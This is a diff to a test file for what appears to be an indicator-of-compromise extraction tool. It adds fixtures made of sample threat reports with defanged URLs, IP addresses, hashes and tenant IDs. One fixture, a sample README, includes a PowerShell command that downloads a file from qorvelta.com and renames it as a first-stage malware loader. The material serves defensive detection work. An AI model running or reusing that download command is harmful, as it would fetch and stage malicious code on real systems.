@@ -317,9 +317,36 @@ const HABITS: Habit[] = [
     want: ['qorvelta.com', H1],
     never: ['https://www.branig.net/heron', 'https://www.branig.net/two'],
   },
+  {
+    name: 'pages of sharing services, defanged or in a list of URLs; a reference in the introduction',
+    file: 'README.md',
+    content: `# IOC for Heron\n\nOur analysis and technical details at <https://www.branig.net/heron>\n\n## URLs\n\n\`\`\`\nmega[.]nz/file/0Ux1#H28pgAJ\nhxxps://cdn.discordapp[.]com/attachments/11/22/a.uue\n\`\`\`\n\n## Commands\n\n\`\`\`powershell\niwr https://qorvelta.com/doc/7 -OutFile $b\\a.zz -UseB ; gci $b\\a.zz | ren -N {$_.Name -replace 'z',''} # the loader of the first stage\n\`\`\`\n\n## Crypto\n\n\`\`\`\nCipher: AES\nKey: ${H1} (32 bytes)\n\`\`\`\n\n## Files\n\n| SHA-256 | File | Role |\n| --- | --- | --- |\n| ${H2} | kettle.exe | Legitimate host of the loader |\n| ${H3} | amber.dll | runtime, appears legitimate |\n| ${H4} | dock.dll | malicious loader |\n`,
+    want: ['mega.nz/file/0Ux1#H28pgAJ', 'https://cdn.discordapp.com/attachments/11/22/a.uue', 'https://qorvelta.com/doc/7', H4],
+    never: [H1, 'https://www.branig.net/heron'],
+  },
+  {
+    name: 'a text with two tables of Markdown, the second with other columns, and a type that is no hash of a file',
+    file: 'iocs.txt',
+    content: `\n| SHA256 | Label | IP | Port |\n|--------|-------|----|------|\n| ${H1} | a.ini | 91.212.44.7 | 443 |\n| ${H2} | b.ini | 91.212.44.8 | 443 |\n\n| IP | Port |\n|----|------|\n| 91.212.44.9 | 443 |\n| 91.212.44.10 |\n`,
+    want: [H1, H2, '91.212.44.7', '91.212.44.8', '91.212.44.9', '91.212.44.10'],
+  },
+  {
+    name: 'a type that is no hash of a file',
+    file: 'types.csv',
+    content: `Indicator,Type,Description\n${M1},MD5,loader\n${M2},Public Key,of the server\n`,
+    want: [M1],
+    never: [M2],
+  },
+  {
+    name: 'several keys and values in a line',
+    file: 'tenants_iocs.txt',
+    content:
+      '# Tenants\n\nDisplayName: IT_Support[@]harbour-works[.]org | Email: desk[@]qorvelta[.]com | TenantID: ed00fe61-f21f-478e-a768-9d1e39913242\nTenantID: fafe34de-cf53-484b-98ec-4a080c0ebb79 | Approved from 91.212.44[.]7\n\n91.212.44[.]9 | proxy\n',
+    want: ['desk@qorvelta.com', '91.212.44.7', '91.212.44.9'],
+    never: ['it_support@harbour-works.org'],
+  },
 ];
 
-test('twenty-eight habits', () => expect(HABITS).toHaveLength(28));
 for (const { name, file, content, want, never = [] } of HABITS) {
   test(name, async () => {
     const bytes = typeof content === 'string' ? Buffer.from(content) : content;
